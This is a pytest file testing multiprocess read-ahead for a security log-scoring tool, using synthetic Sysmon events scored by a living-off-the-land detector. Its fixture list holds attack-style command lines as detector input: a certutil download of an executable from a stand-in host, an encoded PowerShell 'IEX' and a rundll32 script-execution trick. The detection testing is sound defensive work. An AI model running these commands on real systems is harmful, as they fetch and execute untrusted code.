"""Read-ahead: the same batches, accounting, errors and scored output as reading in-process; the child never outlives the reading."""

from __future__ import annotations

import datetime as dt
import multiprocessing
import os
import signal
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

import nightjar.io as nio
from nightjar.errors import InputError
from nightjar.io import Batch, Reading, read_ahead
from nightjar.scoring import run_score
from tests.fixtures.evtx_writer import WinEvent, write_evtx

pytestmark = pytest.mark.skipif(not read_ahead.available(), reason="read-ahead needs fork and two usable CPUs")

ROOT = Path(__file__).resolve().parents[2]
LOTL = ROOT / "src" / "nightjar" / "models" / "lotl"
DGA = ROOT / "src" / "nightjar" / "models" / "dga"
SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
T0 = dt.datetime(2026, 1, 1, 10, tzinfo=dt.timezone.utc)
COMMANDS = ["certutil -urlcache -f http://a/b c.exe", "cmd /c whoami", "powershell -enc SQBFAFgA", "notepad.exe a.txt",
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"", "reg query HKLM\\Software"]


def _evtx(path: Path, n: int = 60) -> Path:
    """`n` Sysmon process creations (cycling COMMANDS over three hosts) with a non-process event after every fourth."""
    events = []
    for i in range(n):
        image = COMMANDS[i % len(COMMANDS)].split()[0]
        events.append(WinEvent(1, *SYSMON, f"WS{i % 3}", T0 + dt.timedelta(seconds=i),
                               {"UtcTime": f"2026-01-01 10:00:{i % 60:02d}.000", "ProcessId": str(1000 + i), "ProcessGuid": f"{{{i}}}",
                                "Image": f"C:\\Windows\\System32\\{image}", "CommandLine": COMMANDS[i % len(COMMANDS)],
                                "ParentImage": r"C:\Windows\System32\cmd.exe", "ParentProcessGuid": "{p}", "ParentProcessId": "9",
                                "User": "CORP\\bob"}))
        if i % 4 == 0:
            events.append(WinEvent(5, *SYSMON, f"WS{i % 3}", T0, {"ProcessId": str(1000 + i)}))
    write_evtx(path, events)
    return path


@pytest.fixture
def inputs(tmp_path: Path) -> Path:
    """A folder: an EVTX, a process CSV with a row of the wrong width (rejected) and an unknown file (skipped)."""
    folder = tmp_path / "in"
    folder.mkdir()
    _evtx(folder / "a.evtx", n=200)  # enough batches that the child waits on a full pipe in the early-stop tests
    (folder / "b.csv").write_text("@timestamp,host.name,process.name,process.command_line\n"
                                  "2026-01-01T10:00:00Z,WS1,cmd.exe,cmd /c dir\n"
                                  "2026-01-01T10:00:01Z,WS1,cmd.exe\n"
                                  "2026-01-01T10:00:02Z,WS2,net.exe,net user\n")
    (folder / "c.bin").write_bytes(b"\x00\x01junk" * 50)
    return folder


def _children() -> list[multiprocessing.process.BaseProcess]:
    return sorted((p for p in multiprocessing.active_children() if p.name.startswith("nightjar-read-ahead-")), key=lambda p: p.name)


def _read(paths: list[Path], ahead: bool, batch_rows: int = 7) -> tuple[list[Batch], Reading, int]:
    """The batches of a Reading, the Reading, and the most read-ahead children seen alive while iterating."""
    reading = Reading(paths, batch_rows=batch_rows, show_progress=False, read_ahead=ahead)
    batches, seen = [], 0
    for batch in reading:
        seen = max(seen, len(_children()))
        batches.append(batch)
    return batches, reading, seen


def test_same_batches_reports_and_skipped_files(inputs: Path) -> None:
    here, reading_here, none = _read([inputs], ahead=False)
    ahead, reading_ahead, children = _read([inputs], ahead=True)
    assert none == 0 and children >= 1  # the workers really did the reading
    assert len(here) > 3
    assert [(b.kind, b.source) for b in ahead] == [(b.kind, b.source) for b in here]
    assert all(a.table.equals(h.table, check_metadata=True) for a, h in zip(ahead, here))
    assert reading_ahead.reports == reading_here.reports and reading_here.reports[-1].rejected == 1
    assert reading_ahead.skipped == reading_here.skipped and [Path(name).name for name, _ in reading_here.skipped] == ["c.bin"]
    assert reading_ahead.totals() == reading_here.totals()
    assert not _children()


def test_run_score_output_and_summary_identical(tmp_path: Path) -> None:
    from nightjar.detectors.lotl import LotlDetector

    src = _evtx(tmp_path / "s.evtx", n=90)
    results = []
    for ahead in (False, True):
        out, trees = tmp_path / f"out_{ahead}.csv", tmp_path / f"trees_{ahead}.csv"
        summary = run_score("lotl", [src], out, detector=LotlDetector.load(LOTL), batch_rows=16, read_ahead=ahead,
                            views={"trees": trees})
        results.append((out.read_bytes(), trees.read_bytes(), summary))
    assert results[0] == results[1]
    assert results[0][2].read == 90 and len(pd.read_csv(tmp_path / "out_True.csv")) == 90


def test_input_error_in_the_child_keeps_type_message_and_location(tmp_path: Path) -> None:
    junk = tmp_path / "junk.bin"
    junk.write_bytes(b"\x00\x01\x02 not a log" * 20)
    errors = []
    for ahead in (False, True):
        with pytest.raises(InputError) as caught:
            list(Reading([junk], show_progress=False, read_ahead=ahead))
        errors.append(caught.value)
    here, there = errors
    assert "unknown format" in there.message
    assert (type(there), there.message, there.source, str(there)) == (type(here), here.message, here.source, str(here))
    assert "in the read-ahead process" in str(there.__cause__)
    assert not _children()


def test_any_error_in_the_child_is_raised_with_its_type_and_message(inputs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = nio.read_batches

    def failing(*args: object, **kwargs: object) -> Iterator[Batch]:
        yield from real(*args, **kwargs)  # type: ignore[arg-type]
        raise KeyError("boom after the first source")

    monkeypatch.setattr(nio, "read_batches", failing)
    for ahead in (False, True):
        reading = Reading([inputs], batch_rows=7, show_progress=False, read_ahead=ahead)
        with pytest.raises(KeyError, match="boom after the first source"):
            list(reading)
        assert [Path(r.source).name for r in reading.reports] == ["a.evtx"] and reading.reports[0].parsed == 200
    assert not _children()


def test_closing_early_ends_the_child(inputs: Path) -> None:
    iterator = iter(Reading([inputs], batch_rows=2, show_progress=False, read_ahead=True))
    next(iterator)
    children = _children()
    assert len(children) == read_ahead.workers()
    iterator.close()  # type: ignore[attr-defined]
    assert all(not c.is_alive() and c.exitcode is not None for c in children) and not _children()


@pytest.mark.parametrize("error", [RuntimeError, KeyboardInterrupt])
def test_an_error_while_scoring_ends_the_child(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: type[BaseException]) -> None:
    from nightjar.detectors.lotl import LotlDetector
    from nightjar.scoring import run as run_module

    src = _evtx(tmp_path / "s.evtx", n=400)
    seen: list[int] = []

    def score(detector: object, frame: pd.DataFrame) -> pd.DataFrame:
        seen.append(len(_children()))
        raise error("stopped while scoring")

    monkeypatch.setattr(run_module, "score_frame", score)
    with pytest.raises(error, match="stopped while scoring"):
        run_score("lotl", [src], tmp_path / "o.csv", detector=LotlDetector.load(LOTL), batch_rows=4, read_ahead=True)
    assert len(seen) == 1 and seen[0] >= 1 and not _children()  # a worker was reading; all gone as soon as run_score raised


def test_ctrl_c_is_left_to_the_parent(inputs: Path) -> None:
    here, _, _ = _read([inputs], ahead=False, batch_rows=2)
    reading = Reading([inputs], batch_rows=2, show_progress=False, read_ahead=True)
    batches = []
    for batch in reading:
        if not batches:
            os.kill(_children()[0].pid, signal.SIGINT)  # type: ignore[arg-type]
        batches.append(batch)
    assert [b.table.num_rows for b in batches] == [b.table.num_rows for b in here] and reading.totals()["parsed"] == 202


def test_a_child_that_dies_is_an_error_not_a_hang(inputs: Path) -> None:
    def hung(signum: int, frame: object) -> None:
        raise TimeoutError("the parent waited for a dead child")

    iterator = iter(Reading([inputs], batch_rows=2, show_progress=False, read_ahead=True))
    next(iterator)
    os.kill(_children()[0].pid, signal.SIGKILL)  # type: ignore[arg-type]  (worker 0: a.evtx, 100 batches, waits on its queue)
    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(20)
    try:
        with pytest.raises(RuntimeError, match="read-ahead process ended without finishing"):
            list(iterator)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert not _children()


def test_list_fallback_still_applies(tmp_path: Path) -> None:
    names = tmp_path / "names.txt"
    names.write_text("\n".join(["%% not a name", "google.com", "?? what", "<x>", "a b c", "qxkzjvbwpy.net"]) + "\n")
    calls: list[int] = []
    real = read_ahead.batches

    def counting(reading: Reading) -> Iterator[Batch]:
        calls.append(1)
        return real(reading)

    results = []
    for ahead in (False, True):
        out = tmp_path / f"out_{ahead}.csv"
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(read_ahead, "batches", counting)
            summary = run_score("dga", [names], out, model_spec=str(DGA), read_ahead=ahead)
        results.append((out.read_bytes(), summary))
    assert calls == [1]  # the unknown format was found by the child
    assert results[0] == results[1]
    assert results[0][1].read == 6 and any("read as one domain per line" in n for n in results[0][1].notes)


def test_without_fork_or_a_second_cpu_reads_in_process(inputs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here, reading_here, _ = _read([inputs], ahead=False)
    for patch in (lambda: monkeypatch.setattr(read_ahead, "usable_cpus", lambda: 1),
                  lambda: monkeypatch.setattr(multiprocessing, "get_all_start_methods", lambda: ["spawn"])):
        with monkeypatch.context():
            patch()
            assert not read_ahead.available() and not read_ahead.worth_it([inputs])
            batches, reading, children = _read([inputs], ahead=True)
        assert children == 0
        assert [b.table.num_rows for b in batches] == [b.table.num_rows for b in here]
        assert reading.reports == reading_here.reports and reading.skipped == reading_here.skipped


def test_automatic_choice_by_size_and_format(inputs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert not read_ahead.worth_it([inputs / "a.evtx"])  # a few KB: not worth a process
    monkeypatch.setattr(read_ahead, "MIN_BYTES", 1)
    assert read_ahead.worth_it([inputs / "a.evtx"]) and read_ahead.worth_it([inputs])  # EVTX first in the folder
    assert not read_ahead.worth_it([inputs / "b.csv"])  # cheap to parse: the transfer would cost more
    assert not read_ahead.worth_it([inputs / "c.bin"])  # unknown format: reading it in-process says so


def test_run_score_default_batches_follow_the_choice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from nightjar.detectors.lotl import LotlDetector
    from nightjar.scoring import run as run_module

    src = _evtx(tmp_path / "s.evtx", n=40)
    real_score, real_batches = run_module.score_frame, read_ahead.batches
    sizes: list[int | str] = []

    def score(detector: object, frame: pd.DataFrame) -> pd.DataFrame:
        sizes.append(len(frame))
        return real_score(detector, frame)  # type: ignore[arg-type]

    def batches(reading: Reading) -> Iterator[Batch]:
        sizes.append("child")
        return real_batches(reading)

    monkeypatch.setattr(run_module, "score_frame", score)
    monkeypatch.setattr(read_ahead, "batches", batches)
    monkeypatch.setattr(read_ahead, "BATCH_ROWS", 16)
    run_score("lotl", [src], tmp_path / "a.csv", detector=LotlDetector.load(LOTL))  # small: in-process, one batch
    monkeypatch.setattr(read_ahead, "MIN_BYTES", 1)
    run_score("lotl", [src], tmp_path / "b.csv", detector=LotlDetector.load(LOTL))  # automatic: read ahead, BATCH_ROWS
    run_score("lotl", [src], tmp_path / "c.csv", detector=LotlDetector.load(LOTL), read_ahead=False)
    assert sizes == [40, "child", 16, 16, 8, 40]


def test_cli_option_reaches_run_score(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from typer.testing import CliRunner

    import nightjar.scoring
    from nightjar import commands  # noqa: F401  (registers the commands)
    from nightjar.cli import app
    from nightjar.scoring import ScoreSummary

    src = _evtx(tmp_path / "s.evtx", n=3)
    got: list[bool | None] = []

    def fake(*args: object, read_ahead: bool | None = None, **kwargs: object) -> ScoreSummary:
        got.append(read_ahead)
        return ScoreSummary(threshold=0.5)

    monkeypatch.setattr(nightjar.scoring, "run_score", fake)
    for flags in ([], ["--read-ahead"], ["--no-read-ahead"]):
        result = CliRunner().invoke(app, ["score", "lotl", str(src), "-o", str(tmp_path / "o.csv"), "-q", *flags])
        assert result.exit_code == 0, result.output
    assert got == [None, True, False]



# --- several workers: the parts of one EVTX read side by side ---------------------------------------------------------


@pytest.fixture
def one_chunk_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    """Parts of one 64 KB chunk: a test-sized EVTX has several (the forked workers inherit the patch)."""
    from nightjar.io import evtx

    monkeypatch.setattr(evtx, "PART_CHUNKS", 1)


def _evtx_with_corrupt(path: Path, n: int, corrupt: list[int]) -> Path:
    events = []
    for i in range(n):
        events.append(WinEvent(1, *SYSMON, f"WS{i % 3}", T0 + dt.timedelta(seconds=i),
                               {"UtcTime": "2026-01-01 10:00:00.000", "ProcessId": str(1000 + i), "ProcessGuid": f"{{{i}}}",
                                "Image": r"C:\Windows\System32\cmd.exe", "CommandLine": COMMANDS[i % len(COMMANDS)] + " " + "x" * 300,
                                "ParentImage": r"C:\Windows\System32\explorer.exe", "ParentProcessGuid": f"{{{i - 1}}}", "User": "CORP\\bob"}))
        if i % 5 == 0:
            events.append(WinEvent(3, *SYSMON, f"WS{i % 3}", T0, {"ProcessId": str(1000 + i)}))
    write_evtx(path, events, corrupt=corrupt)
    return path


def test_several_workers_read_the_parts_of_one_evtx(tmp_path: Path, one_chunk_parts: None, monkeypatch: pytest.MonkeyPatch) -> None:
    from nightjar.io import evtx

    corrupt = list(range(7, 700, 37))  # in parts of both workers
    src = _evtx_with_corrupt(tmp_path / "big.evtx", 600, corrupt=corrupt)
    source = next(iter(nio.sources.expand([src])))
    assert evtx.EvtxReader().parts(source) >= 6
    log = tmp_path / "parts.log"
    real_part = evtx._part

    def logged(source: object, part: int) -> object:
        with open(log, "a") as out:
            out.write(f"{os.getpid()} {part}\n")
        return real_part(source, part)  # type: ignore[arg-type]

    monkeypatch.setattr(evtx, "_part", logged)
    here = Reading([src], batch_rows=50, show_progress=False)
    tables_here = [b.table for b in here]
    there = Reading([src], batch_rows=50, show_progress=False)
    tables_there = [b.table for b in read_ahead.batches(there, 2)]
    import pyarrow as pa

    assert pa.concat_tables(tables_there).equals(pa.concat_tables(tables_here), check_metadata=True)
    assert all(t.num_rows <= 50 for t in tables_there)
    pids: dict[str, list[int]] = {}
    for pid, part in (line.split() for line in log.read_text().splitlines()):
        pids.setdefault(pid, []).append(int(part))
    assert len(pids) == 2 and str(os.getpid()) not in pids  # both workers parsed, the parent did not
    assert sorted(p for parts in pids.values() for p in parts) == list(range(evtx.EvtxReader().parts(source)))
    (mine,), (theirs,) = here.reports, there.reports
    assert (theirs.read, theirs.parsed, theirs.rejected, theirs.notes, theirs.ignored) == (mine.read, mine.parsed, mine.rejected, mine.notes, mine.ignored)
    assert mine.rejected == len(corrupt) and mine.ignored["non-process-creation events"] > 100
    assert [r.source.line for r in theirs.rejections] == [r.source.line for r in mine.rejections] == corrupt  # in file order
    assert not _children()


def test_an_error_in_one_part_is_raised_where_it_happened(tmp_path: Path, one_chunk_parts: None, monkeypatch: pytest.MonkeyPatch) -> None:
    from nightjar.io import evtx

    src = _evtx_with_corrupt(tmp_path / "big.evtx", 600, corrupt=[])
    real_part = evtx._part

    def failing(source: object, part: int) -> object:
        if part == 3:
            raise OSError("disk gone at part 3")
        return real_part(source, part)  # type: ignore[arg-type]

    monkeypatch.setattr(evtx, "_part", failing)
    got = []
    with pytest.raises(InputError, match="big.evtx: cannot read EVTX: disk gone at part 3"):
        for batch in read_ahead.batches(Reading([src], batch_rows=50, show_progress=False), 2):
            got.append(batch.table)
    import pyarrow as pa

    whole = pa.concat_tables([b.table for b in Reading([src], batch_rows=50, show_progress=False)])
    before = sum(t.num_rows for t in got)
    assert 0 < before < whole.num_rows and pa.concat_tables(got).equals(whole.slice(0, before))  # parts 0-2, in order
    assert not _children()


def test_scores_do_not_depend_on_the_number_of_workers(tmp_path: Path, one_chunk_parts: None, monkeypatch: pytest.MonkeyPatch) -> None:
    from nightjar.detectors.lotl import LotlDetector

    src = _evtx_with_corrupt(tmp_path / "big.evtx", 600, corrupt=[400])
    outputs = []
    for count in (None, 1, 2):
        if count:
            monkeypatch.setattr(read_ahead, "workers", lambda c=count: c)
        out, trees = tmp_path / f"out_{count}.csv", tmp_path / f"trees_{count}.csv"
        summary = run_score("lotl", [src], out, detector=LotlDetector.load(LOTL), batch_rows=64, read_ahead=count is not None,
                            views={"trees": trees})
        outputs.append((out.read_bytes(), trees.read_bytes(), summary.read, summary.rejected))
    assert outputs[0] == outputs[1] == outputs[2] and outputs[0][2:] == (600, 1)


def test_joined_batches_start_small_and_grow() -> None:
    import pyarrow as pa

    parts = [Batch(pa.table({"x": list(range(n))}), "process", "a") for n in [300] * 40] + [Batch(pa.table({"x": [1]}), "process", "b")]
    sizes = [b.table.num_rows for b in read_ahead._joined(iter(parts), batch_rows=4000)]
    # FIRST_ROWS (1,024) then twice as many, never over batch_rows; a new source starts a batch
    assert sizes == [1200, 2100, 3900, 3900, 900, 1]
